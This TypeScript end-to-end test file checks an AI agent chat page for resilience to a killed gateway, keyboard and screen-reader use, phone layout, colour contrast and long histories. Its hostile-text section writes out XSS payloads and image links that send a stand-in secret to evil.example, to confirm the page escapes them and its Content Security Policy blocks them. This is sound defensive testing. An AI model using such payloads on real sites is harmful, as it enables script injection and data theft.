// What the chat page must withstand: a gateway that is killed, hostile text, a keyboard only, a phone, both themes, and
// long histories.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type ModelServer, startModelServer } from '../doubles/model-server.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';
import { bestOf } from '../support/measure.ts';
import { configFor } from '../support/model-config.ts';
import { type Chat, contrastOf, openBrowser, openChat, PHONE, signInUrl } from '../support/page.ts';

let browser: Browser;
let models: ModelServer;
let gateway: TestGateway;

beforeAll(async () => {
  [browser, models] = await Promise.all([openBrowser(), startModelServer({ tokens: 8 })]);
  gateway = await startTestGateway({ config: configFor(models, { models: ['one', 'two'] }) });
});
afterAll(async () => {
  await browser?.close();
  await gateway?.dispose();
  await models?.close();
});

let serial = 0;
const sessionUrl = (): string => `${signInUrl(gateway)}&session=agent:main:web-care${++serial}`;

/** Opens the page, runs the test on it, and holds it to having done nothing that it must not do. */
async function withChat(
  work: (chat: Chat) => Promise<void>,
  ...rest: Parameters<typeof openChat> extends [unknown, unknown, ...infer R] ? R : never
): Promise<void> {
  const chat = await openChat(browser, sessionUrl(), ...rest);
  await chat.composer.waitFor();
  await work(chat);
  expect(chat.incidents).toEqual([]);
  await chat.close();
}

describe('the connection', () => {
  test('a gateway that is killed in the middle of a reply and comes back: not a word is lost or doubled', async () => {
    const first = await startTestGateway({ config: configFor(models, { models: ['one', 'two'] }) });
    const chat = await openChat(browser, signInUrl(first));
    await chat.say('[[tokens:150]] [[delay:20]] a long answer');
    await chat.answers.locator('.md', { hasText: 'w20' }).waitFor();
    await first.kill9();
    await chat.page.getByText('Not connected').first().waitFor();
    await chat.say('[[tokens:3]] typed while it was away');
    await chat.page.locator('.asked.is-waiting', { hasText: 'typed while it was away' }).waitFor();
    const second = await startTestGateway({ home: first.home, port: first.port });
    await chat.page.locator('.banner.is-warning').waitFor({ state: 'detached' });
    await chat.answered(2);
    await chat.page
      .locator('.asked.is-waiting, .asked.is-sending, .asked.is-accepted')
      .first()
      .waitFor({ state: 'detached' });
    const asked = await chat.page.locator('.asked .bubble').allInnerTexts();
    expect(asked).toEqual(['[[tokens:150]] [[delay:20]] a long answer', '[[tokens:3]] typed while it was away']);
    const all = (await chat.answers.allInnerTexts()).join(' ').match(/w\d+/g) ?? [];
    expect(all.filter((word) => word === 'w149')).toHaveLength(1);
    const shown = await chat.page.locator('#conversation').innerText();
    await chat.page.reload();
    await chat.answered(2);
    // What the page put together is what the gateway has.
    expect(words(await chat.page.locator('#conversation').innerText())).toEqual(words(shown));
    expect(chat.incidents).toEqual([]);
    await chat.close();
    await second.dispose();
  });

  test.each(['request', 'answer'] as const)('a message whose %s was lost is one message in the end', async (lost) => {
    const keys: string[] = [];
    const breakOnce = (page: Page): Promise<void> =>
      page.routeWebSocket(/.*/, (socket) => {
        const server = socket.connectToServer();
        let asked = '';
        socket.onMessage((data) => {
          const frame = JSON.parse(String(data)) as { id: string; method: string; params: { idempotencyKey: string } };
          if (frame.method === 'chat.send') {
            keys.push(frame.params.idempotencyKey);
            if (keys.length === 1 && lost === 'request') return void socket.close({ code: 1011 });
            if (keys.length === 1) asked = frame.id;
          }
          server.send(data);
        });
        server.onMessage((data) => {
          if (asked === '') return socket.send(data);
          if ((JSON.parse(String(data)) as { id?: string }).id === asked) void socket.close({ code: 1011 });
        });
      });
    await withChat(
      async (chat) => {
        await chat.say('only once, please');
        await chat.answered(1);
        // A resend keeps the key of the first attempt; what the gateway had taken needs none.
        expect(new Set(keys).size).toBe(1);
        if (lost === 'request') expect(keys).toHaveLength(2);
        await chat.page.reload();
        await chat.answered(1);
        expect(await chat.page.locator('.asked').count()).toBe(1);
      },
      {},
      breakOnce,
    );
  });

  test('a page that comes in the middle of a reply shows it whole', async () => {
    await withChat(async (chat) => {
      await chat.say('[[tokens:120]] [[delay:20]] slowly');
      await chat.answers.locator('.md', { hasText: 'w10' }).waitFor();
      await chat.page.reload();
      await chat.answers.locator('.md', { hasText: 'w0 w1 w2' }).waitFor();
      await chat.answered(1);
      expect(words(await chat.answers.locator('.md').innerText())).toEqual(
        Array.from({ length: 120 }, (_, n) => `w${n}`),
      );
    });
  });
});

const words = (text: string): string[] => text.match(/w\d+/g) ?? [];

describe('hostile text', () => {
  const XSS =
    '<img src=x onerror="alert(1)"><svg onload=alert(2)></svg><script>alert(3)</script>"\'><iframe src="javascript:alert(4)">';

  test('C02 C03 C04 stays text wherever it is shown, and loads nothing', async () => {
    const reply = [
      XSS,
      '[click](javascript:alert(5)) [data](data:text/html,x) ![i](https://evil.example/?q=SECRET) ![j](//evil.example/y)',
      '<https://ok.example> [real](https://ok.example/a?b=c)',
      `\`\`\`html"onmouseover=alert(6)\n${XSS}\n\`\`\``,
      `| ${XSS} |\n|---|\n| ${XSS} |`,
    ].join('\n\n');
    models.script(
      { toolCalls: [{ name: 'exec', args: { command: `echo '${XSS.replaceAll("'", '')}'` } }] },
      { text: reply },
    );
    await withChat(async (chat) => {
      const { page } = chat;
      await chat.say(XSS);
      await chat.answered(1);
      await page.locator('.tool summary').click();
      await page.locator('.tool-output', { hasText: 'onerror' }).waitFor();
      expect(await page.locator('.asked .bubble').innerText()).toBe(XSS);
      expect(await page.locator('.session-link', { hasText: '<img src=x' }).count()).toBe(1);
      await page
        .getByRole('button', { name: /^Actions for <img/ })
        .last()
        .click();
      await page.getByRole('menuitem', { name: 'Rename' }).click();
      await page.getByRole('textbox', { name: 'Name' }).fill(`<b>${XSS.slice(0, 80)}`);
      await page.keyboard.press('Enter');
      await page.locator('.session-link', { hasText: '<b><img' }).waitFor();
      expect(
        await page
          .locator('#app :is(img, iframe, script, object, embed, base, link, style, form:not(.composer))')
          .count(),
      ).toBe(0);
      const links = await page
        .locator('.answer a')
        .evaluateAll((all) =>
          all.map((a) => [a.getAttribute('href'), a.getAttribute('rel'), a.getAttribute('target')]),
        );
      for (const [href, rel, target] of links) {
        expect(href).toMatch(/^https:\/\/(ok|evil)\.example\//);
        expect([rel, target]).toEqual(['noopener noreferrer', '_blank']);
      }
      expect(links).toHaveLength(3);
      await page.getByText('(image at evil.example)').waitFor();
      expect(await page.locator('[onerror], [onload], [onmouseover], [style*="url"]').count()).toBe(0);
    });
  });

  test('and the watch over the page is not blind: what the policy forbids is seen and does not happen', async () => {
    const chat = await openChat(browser, sessionUrl());
    await chat.composer.waitFor();
    await chat.page.evaluate(`
      const image = new Image();
      image.src = 'https://evil.example/pixel.png';
      document.body.append(image);
      const script = document.createElement('script');
      script.textContent = 'window.ran = true';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<b style="color:red" onclick="window.ran = true">x</b>');
      fetch('https://evil.example/').catch(() => 0);
    `);
    const refusals = (): string[] => chat.incidents.filter((incident) => /Content.Security.Policy/i.test(incident));
    await expect.poll(() => refusals().length).toBeGreaterThanOrEqual(5);
    expect(await chat.page.evaluate('window.ran')).toBeUndefined();
    await chat.close();
  });

  test('a name that turns text around is shown by its characters', async () => {
    await withChat(async (chat) => {
      await chat.say('safe \u202etxt.exe');
      await chat.answered(1);
      await chat.page.locator('.session-link', { hasText: 'safe [U+202E]txt.exe' }).waitFor();
    });
  });
});

describe('a keyboard', () => {
  test('is enough for everything: skip, new, write, search, open, act, help, stop', async () => {
    await withChat(async ({ page, answered, answers }) => {
      const focused = (): Promise<string> =>
        page.evaluate(
          'document.activeElement.getAttribute("aria-label") || document.activeElement.textContent || document.activeElement.id',
        );
      await page.keyboard.type('by keyboard only');
      await page.keyboard.press('Shift+Enter');
      await page.keyboard.type('two lines');
      await page.keyboard.press('Enter');
      await answered(1);
      expect(await page.locator('.asked .bubble').first().innerText()).toBe('by keyboard only\ntwo lines');
      await page.keyboard.press('Control+k');
      await page.keyboard.type('keyboard only');
      await page.locator('.group-name', { hasText: 'Found' }).waitFor();
      await page.keyboard.press('ArrowDown');
      expect(await focused()).toContain('by keyboard only');
      await page.keyboard.press('ArrowRight');
      expect(await focused()).toContain('Actions for by keyboard only');
      await page.keyboard.press('Enter');
      await page.locator('[role=menuitem]:focus', { hasText: 'Rename' }).waitFor();
      await page.keyboard.press('ArrowDown');
      expect(await focused()).toBe('Pin');
      await page.keyboard.press('Escape');
      expect(await focused()).toContain('Actions for by keyboard only');
      await page.keyboard.press('?');
      await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      expect(await focused()).toContain('Actions for by keyboard only');
      await page.keyboard.press('Alt+n');
      await page.locator('.empty').waitFor();
      await page.locator('#composer:focus').waitFor();
      await page.keyboard.type('[[tokens:2000]] [[delay:20]] stop me');
      await page.keyboard.press('Enter');
      await answers.locator('.md', { hasText: 'w3' }).waitFor();
      await page.keyboard.press('Escape');
      await page.getByText('stopped by you').waitFor();
      // Behind the last element comes the first one again.
      for (let tabs = 0; tabs < 6 && (await focused()).trim() !== 'Skip to the message box'; tabs++) {
        await page.keyboard.press('Tab');
      }
      await page.locator('.skip:focus').waitFor();
      await page.keyboard.press('Enter');
      await page.locator('#composer:focus').waitFor();
    });
  });

  test('and a screen reader: everything that acts has a name, and a finished reply is spoken once', async () => {
    await withChat(async (chat) => {
      await chat.say('[[tool:ls {"path":"."}]] name things');
      await chat.answered(1);
      await chat.page.getByRole('status').getByText('Reply: w0 w1').waitFor();
      const nameless = await chat.page
        .locator('button, a, input, select, textarea, summary, [role=button]')
        .evaluateAll((all) =>
          all
            .filter(
              (e) =>
                !(
                  e.getAttribute('aria-label') ||
                  e.textContent?.trim() ||
                  (e as unknown as { labels?: { length: number } }).labels?.length
                ),
            )
            .map((e) => e.outerHTML),
        );
      expect(nameless).toEqual([]);
      expect(await chat.page.locator('h1').count()).toBe(1);
      expect(await chat.page.locator('main, nav, aside').count()).toBe(3);
      expect(await chat.page.locator('.column').getAttribute('aria-live')).toBe('off');
    });
  });
});

describe('a phone', () => {
  test('never scrolls sideways, and the sessions are a drawer', async () => {
    models.script({
      text: `${'unbroken'.repeat(60)}\n\n| ${'wide | '.repeat(20)}\n|${'---|'.repeat(20)}\n\n\`\`\`\n${'code '.repeat(80)}\n\`\`\``,
    });
    await withChat(async ({ page, say, answered }) => {
      await say('show wide things');
      await answered(1);
      const overflow = (): Promise<unknown> => page.evaluate('document.scrollingElement.scrollWidth - innerWidth');
      expect(await overflow()).toBe(0);
      const column = await page.evaluate(`(e => e.scrollWidth - e.clientWidth)(document.querySelector('.column'))`);
      expect(column).toBe(0);
      await page.getByRole('button', { name: 'Show sessions' }).tap();
      await page.locator('.session-link', { hasText: 'show wide things' }).waitFor();
      expect(await overflow()).toBe(0);
      await page.getByRole('button', { name: 'Close sessions' }).first().tap();
      await page.locator('.sidebar').waitFor({ state: 'hidden' });
      // Below 16 px iOS zooms in on focus.
      for (const field of ['#composer', '#search']) {
        const size = await page.evaluate(`parseFloat(getComputedStyle(document.querySelector('${field}')).fontSize)`);
        expect(size, field).toBeGreaterThanOrEqual(16);
      }
    }, PHONE);
  });
});

describe('light and dark', () => {
  const WORDS = [
    '.md p',
    '.bubble',
    '.turn-foot time',
    '.session-name',
    '.session-preview',
    '.session-time',
    '.group-name',
    '.head h1',
    '.tool-name',
    '.tool-gist',
    '.composer-hint',
    '.md a',
    '.code pre',
    '.code-language',
    '.md blockquote',
    '.note p',
    '.archive-toggle',
    '.new-session',
    '.meter',
    '.model select',
  ];

  test.each(['light', 'dark'] as const)(
    '%s: words stand out from their ground as WCAG AA asks',
    async (colorScheme) => {
      await withChat(
        async ({ page, say, answered }) => {
          models.script(
            { toolCalls: [{ name: 'ls', args: { path: '.' } }] },
            { text: 'words `code` [link](https://a.example)\n\n> quote\n\n```ts\ncode\n```' },
          );
          await say('show');
          await answered(1);
          models.script({ status: 400, message: 'no' });
          await say('fail');
          await page.locator('.note').waitFor();
          for (const selector of WORDS) expect(await contrastOf(page, selector), selector).toBeGreaterThanOrEqual(4.5);
          await page.locator('#composer').fill('x');
          // It fades in as there is something to send.
          await expect
            .poll(() => contrastOf(page, '.composer .primary'), { message: 'Send' })
            .toBeGreaterThanOrEqual(4.5);
        },
        { colorScheme },
      );
    },
  );

  test('the switch wins over the system, and is remembered', async () => {
    await withChat(
      async ({ page }) => {
        const ground = (): Promise<unknown> => page.evaluate('getComputedStyle(document.body).backgroundColor');
        const dark = await ground();
        await page.getByRole('button', { name: 'Colours: as the system' }).click();
        const light = await ground();
        expect(light).not.toBe(dark);
        await page.reload();
        await page.getByRole('button', { name: 'Colours: light' }).waitFor();
        expect(await ground()).toBe(light);
      },
      { colorScheme: 'dark' },
    );
  });
});

describe('a long history', () => {
  test('opens quickly, fetches what is older on the way up, and stays where the person reads', async () => {
    const key = 'agent:main:web-long';
    const turns = 120;
    for (let n = 0; n < turns; n++) {
      const id = crypto.randomUUID();
      await gateway.rpc('chat.send', { sessionKey: key, message: `question ${n}`, idempotencyKey: id });
      await gateway.rpc('agent.wait', { runId: id, timeoutMs: 60_000 });
    }
    const chat = await openChat(browser, `${signInUrl(gateway)}&session=agent:main:web-other`);
    const open = async (): Promise<number> => {
      await chat.page.goto(`${signInUrl(gateway)}&session=agent:main:web-other`);
      await chat.page.reload();
      await chat.page.locator('.empty').waitFor();
      const before = performance.now();
      await chat.page.locator('.session-link', { hasText: 'question 0' }).click();
      await chat.page.locator('.asked', { hasText: `question ${turns - 1}` }).waitFor();
      return performance.now() - before;
    };
    expect(await bestOf(3, (ms) => ms < 1_500, open)).toBeLessThan(1_500);
    const shownAtFirst = await chat.page.locator('.turn').count();
    expect(shownAtFirst).toBeLessThan(100);
    await chat.page.evaluate(`document.querySelector('.scroller').scrollTop = 300`);
    const read = chat.page.locator('.asked', { hasText: 'question 91' });
    await read.waitFor();
    const top = async (): Promise<number> => (await read.boundingBox())?.y ?? 0;
    const at = await top();
    await chat.page.locator('.asked', { hasText: 'question 70' }).waitFor({ state: 'attached' });
    expect(Math.abs((await top()) - at)).toBeLessThan(60);
    await chat.page.getByRole('button', { name: 'Latest' }).click();
    await chat.page.locator('.asked', { hasText: `question ${turns - 1}` }).waitFor();
    expect(chat.incidents).toEqual([]);
    await chat.close();
  });
});
